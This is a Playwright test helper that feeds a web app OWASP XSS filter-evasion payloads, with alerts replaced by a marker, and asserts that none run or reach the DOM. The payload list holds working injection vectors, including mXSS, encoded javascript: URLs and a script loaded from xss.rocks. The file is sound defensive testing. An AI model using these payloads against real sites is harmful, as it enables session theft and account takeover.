import { expect, type Page } from '@playwright/test';

/**
 * OWASP XSS filter-evasion vectors (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 * and the usual handler/mXSS payloads), with every alert(...) replaced by a marker assignment:
 * if any of them ever runs, `window.__xss` becomes 1.
 */
const M = 'window.__xss=1';
const b64 = (s: string) => Buffer.from(s).toString('base64');

export const XSS_VECTORS: readonly string[] = [
  `<script>${M}</script>`,
  `<img src=x onerror=${M}>`,
  `<svg/onload=${M}>`,
  `<iframe src="javascript:${M}">`,
  `<a href="javascript:${M}">x</a>`,
  `<a href="jav&#x09;ascript:${M}">x</a>`,
  `<body onload=${M}>`,
  `<input autofocus onfocus=${M}>`,
  `<details open ontoggle=${M}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${M}>`,
  `"><script>${M}</script>`,
  `'';!--"<XSS>=&{()}`,
  `<IMG SRC=JaVaScRiPt:${M}>`,
  `<IMG SRC=\`javascript:${M}\`>`,
  `<<SCRIPT>${M};//<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `<BODY BACKGROUND="javascript:${M}">`,
  `<STYLE>li {list-style-image: url("javascript:${M}");}</STYLE><UL><LI>XSS</br>`,
  `<object data="javascript:${M}">`,
  `<embed src="javascript:${M}">`,
  `<form><button formaction=javascript:${M}>X`,
  `<video><source onerror="${M}">`,
  `<marquee onstart=${M}>`,
  `<div style="background:url(javascript:${M})">`,
  `<a href="data:text/html;base64,${b64(`<script>${M}</script>`)}">x</a>`,
  `<IMG """><SCRIPT>${M}</SCRIPT>">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${M}>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${M}>`,
  `<a href="&#14;  javascript:${M}">x</a>`,
  `<svg><script>${M}</script></svg>`,
  `<svg><a xlink:href="javascript:${M}"><text x="20" y="20">XSS</text></a></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${M}>">`,
  `<LINK REL="stylesheet" HREF="javascript:${M}">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${M};">`,
  `<TABLE BACKGROUND="javascript:${M}">`,
  `<a href="https://example.com" onclick="${M}" onmouseover="${M}">hover</a>`,
  `<p onmouseover="${M}" style="x:expression(${M})">styled</p>`,
  `<img src="x` + '`' + `<script>${M}</script>"` + '`' + `>`,
  `javascript:${M}`,
];

/** Records dialogs, CSP violations and requests leaving the app's origin. Call before navigating. */
export async function watchForXss(page: Page, origin: string) {
  const dialogs: string[] = [];
  const foreignRequests: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss().catch(() => undefined);
  });
  page.on('request', (r) => {
    const url = r.url();
    if (!url.startsWith(origin) && !url.startsWith('data:') && !url.startsWith('blob:')) foreignRequests.push(url);
  });
  await page.addInitScript(() => {
    const w = window as unknown as { __cspViolations: string[] };
    w.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      const target = e.target instanceof Element ? e.target.outerHTML.slice(0, 200) : String(e.target);
      w.__cspViolations.push(
        `${e.violatedDirective} blocked=${e.blockedURI} at ${e.sourceFile}:${e.lineNumber}:${e.columnNumber} on ${target}`,
      );
    });
  });
  return { dialogs, foreignRequests };
}

/**
 * Asserts nothing ran and nothing dangerous reached the DOM: `window.__xss` unset, no dialog,
 * no CSP violation (the server's CSP would block an injected handler, so a violation means
 * one got into the page), no on* attribute, no javascript:/vbscript:/data:text/html URL, no
 * embedded frames or objects and no script other than the app's own bundles.
 */
export async function expectNoXss(
  page: Page,
  watch: { dialogs: string[]; foreignRequests: string[] },
  where: string,
  settleMs = 500,
) {
  // Give handlers (onerror of broken images, autofocus, ontoggle, marquee) a moment to fire.
  await page.waitForTimeout(settleMs);
  const result = await page.evaluate(() => {
    const findings: string[] = [];
    const urlish = /^(href|src|action|formaction|data|background|xlink:href|poster|srcdoc|style|content|lowsrc|dynsrc|codebase)$/;
    for (const el of Array.from(document.querySelectorAll('*'))) {
      const tag = el.tagName.toLowerCase();
      for (const attr of Array.from(el.attributes)) {
        const name = attr.name.toLowerCase();
        if (name.startsWith('on')) findings.push(`<${tag}> has ${name}="${attr.value}"`);
        if (urlish.test(name)) {
          // Browsers ignore whitespace and control characters inside a scheme.
          // eslint-disable-next-line no-control-regex -- browsers ignore control characters in a scheme
          const squashed = attr.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
          if (/(javascript|vbscript|livescript):|data:text\/html|expression\(/.test(squashed)) {
            findings.push(`<${tag}> has ${name}="${attr.value}"`);
          }
        }
      }
      if (['iframe', 'frame', 'object', 'embed', 'applet', 'base', 'form'].includes(tag)) {
        // The app renders its forms as <form> without an action; anything else is foreign.
        if (tag !== 'form' || el.hasAttribute('action') || el.querySelector('[formaction]')) {
          findings.push(`<${tag}> element present: ${el.outerHTML.slice(0, 200)}`);
        }
      }
      if (tag === 'meta' && el.getAttribute('http-equiv')) findings.push(`<meta http-equiv> present: ${el.outerHTML}`);
      if (tag === 'script') {
        const src = el.getAttribute('src');
        const own = src !== null && new URL(src, location.href).origin === location.origin && !el.textContent?.trim();
        if (!own) findings.push(`<script> present: ${el.outerHTML.slice(0, 200)}`);
      }
    }
    const w = window as unknown as { __xss?: unknown; __cspViolations?: string[] };
    return { xss: w.__xss, csp: w.__cspViolations ?? [], findings };
  });
  expect(result.xss, `${where}: window.__xss was set — a vector ran`).toBeUndefined();
  expect(watch.dialogs, `${where}: dialogs opened`).toEqual([]);
  expect(result.findings, `${where}: dangerous markup from stored content in the DOM`).toEqual([]);
  expect(result.csp, `${where}: CSP violations (something injected tried to run or load)`).toEqual([]);
  expect(watch.foreignRequests, `${where}: requests left the app's origin`).toEqual([]);
}
